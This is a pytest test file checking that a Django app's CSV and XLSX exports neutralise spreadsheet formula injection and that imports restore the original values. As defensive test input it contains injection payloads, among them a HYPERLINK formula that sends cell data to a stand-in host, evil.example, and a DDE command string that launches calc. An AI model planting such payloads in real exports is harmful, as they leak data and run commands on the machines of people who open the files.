"""Formula injection is neutralised in every CSV and XLSX export; imports read our own files back unchanged."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook
from python_calamine import CalamineWorkbook

from gyoryu.common.spreadsheet import neutralise, restore, set_xlsx_value
from gyoryu.organizations import transfer
from gyoryu.organizations.models import Organisation, Person
from tests.factories import OrganisationFactory, OrganiserFactory, PersonFactory

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


def test_harmless_values_are_left_alone():
    assert [neutralise(v) for v in ("Acme", "'quoted", "", 5, None)] == ["Acme", "'quoted", "", 5, None]
    assert restore("'quoted") == "'quoted"


def test_xlsx_cells_are_strings_with_quote_prefix_never_formulas():
    book = Workbook()
    for i, text in enumerate(RISKY, start=1):
        set_xlsx_value(book.active.cell(row=i, column=1), text)
    set_xlsx_value(book.active.cell(row=1, column=2), 12)
    out = io.BytesIO()
    book.save(out)
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    rows = CalamineWorkbook.from_filelike(io.BytesIO(out.getvalue())).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows] == [t.replace("\r", "\n") for t in RISKY]  # XML reads CR as LF
    assert rows[0][1] == 12


@pytest.mark.django_db
def test_organisation_and_people_exports_are_neutralised_and_round_trip():
    organiser = OrganiserFactory()
    org = OrganisationFactory(organiser=organiser, name_en="=cmd|' /C calc'!A0", city="@Seoul")
    PersonFactory(organisation=org, organiser=organiser, name_en="+Kim", phone="+82 10 1234 5678")
    data = transfer.export_bytes(organiser=organiser, kind="organisations", fmt="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = rows[0]
    assert rows[1][header.index("name_en")] == "'=cmd|' /C calc'!A0"
    assert rows[1][header.index("city")] == "'@Seoul"
    people = transfer.export_bytes(organiser=organiser, kind="people", fmt="csv").decode("utf-8-sig")
    assert "'+Kim" in people and "'+82 10 1234 5678" in people
    for fmt, name in (("csv", "o.csv"), ("xlsx", "o.xlsx")):
        content = transfer.export_bytes(organiser=organiser, kind="organisations", fmt=fmt)
        result = transfer.import_file(organiser=organiser, kind="organisations", name=name, content=content)
        assert (result.ok, result.created, result.unchanged) == (True, 0, 1), result.problems
    assert Organisation.objects.get(pk=org.pk).name_en == "=cmd|' /C calc'!A0"
    content = transfer.export_bytes(organiser=organiser, kind="people", fmt="xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    result = transfer.import_file(organiser=organiser, kind="people", name="p.csv", content=people.encode())
    assert result.ok, result.problems
    assert Person.objects.get().phone == "+82 10 1234 5678"
